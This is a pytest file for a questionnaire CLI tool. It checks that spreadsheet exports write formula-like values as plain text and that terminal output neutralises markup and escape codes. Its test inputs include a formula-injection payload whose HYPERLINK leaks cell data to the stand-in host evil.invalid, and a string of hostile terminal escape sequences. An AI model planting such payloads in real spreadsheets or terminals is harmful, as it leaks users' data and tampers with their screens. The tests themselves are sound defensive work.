"""issue 14 items 7 and 8: no formula in any xlsx we write; data never drives rich markup or the terminal."""

from __future__ import annotations

import zipfile

import pytest
from typer.testing import CliRunner

from questionnaire.cli import app

from conftest import EXAMPLE_PROFILE

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'


def _profile(tmp_path, product: str):
    text = EXAMPLE_PROFILE.read_text(encoding="utf-8").replace("  product: Acme Insights", f"  product: '{product}'", 1)
    p = tmp_path / "profile.yaml"
    p.write_text(text, encoding="utf-8")
    return p


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in zf.read(n) or b"<f " in zf.read(n)]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t"])
def test_answers_xlsx_writes_formula_like_values_as_text(tmp_path, lead):
    from openpyxl import load_workbook

    value = lead + FORMULA[1:]
    prof = _profile(tmp_path, value.replace("'", "''"))
    out = tmp_path / "a.xlsx"
    res = runner.invoke(app, ["answers", "--profile", str(prof), "-o", str(out)])
    assert res.exit_code == 0, res.output
    assert _formulas(out) == []
    wb = load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the planted value was written somewhere"
    for c in cells:
        assert c.data_type == "s"
        if c.value.startswith(("=", "+", "-", "@")):
            assert c.quotePrefix


def test_compliance_xlsx_goes_through_the_same_cell_writer(tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from questionnaire import compliance

    rep = {"controls": [{"control": "=1+1", "title": "@SUM(A1)", "covered": True, "checks": [], "answers": []}]}
    out = tmp_path / "c.xlsx"
    compliance.write_report(rep, out)
    assert _formulas(out) == []
    ws = load_workbook(out).active
    assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s" and ws["B2"].value == "@SUM(A1)"


HOSTILE = "[/b] [bold red]x[/] \x1b]0;owned\x07\x1b[2J\r\x9b1m done"


def test_markup_and_control_characters_in_aws_data_do_not_crash_check(tmp_path):
    from questionnaire.aws import EmulatedError, emulators
    from questionnaire.resources import example_profile
    from questionnaire.testing.aws_fixture import emulated_account

    def broken(params, region):
        raise EmulatedError("InternalFailure", HOSTILE, 500)

    with emulated_account("compliant"):
        with emulators({("bedrock", "ListInferenceProfiles"): broken}):
            res = runner.invoke(app, ["check", str(example_profile()), "--region", "eu-west-1"])
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert res.exit_code in (0, 1), res.output
    assert "[/b]" in res.output  # shown as text
    for ch in ("\x1b", "\r", "\x07", "\x9b"):
        assert ch not in res.output


def test_terminal_clean_and_escape():
    from questionnaire.terminal import clean, markup_safe

    assert clean("a\x1b[2Jb\rc\x00d\ne") == "a[2Jbcd\ne"
    from rich.console import Console

    Console(file=open("/dev/null", "w")).print(markup_safe(HOSTILE))  # no MarkupError


def test_review_report_xlsx_goes_through_the_same_cell_writer(tmp_path):
    from openpyxl import load_workbook

    from questionnaire import review_report

    out = tmp_path / "r.xlsx"
    review_report._write_xlsx(out, {"items": [{"question": "=1+1", "status": "answered"}], "summary": {"found": 1},
                                    "output": FORMULA})
    assert _formulas(out) == []
    ws = load_workbook(out)["Summary"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix
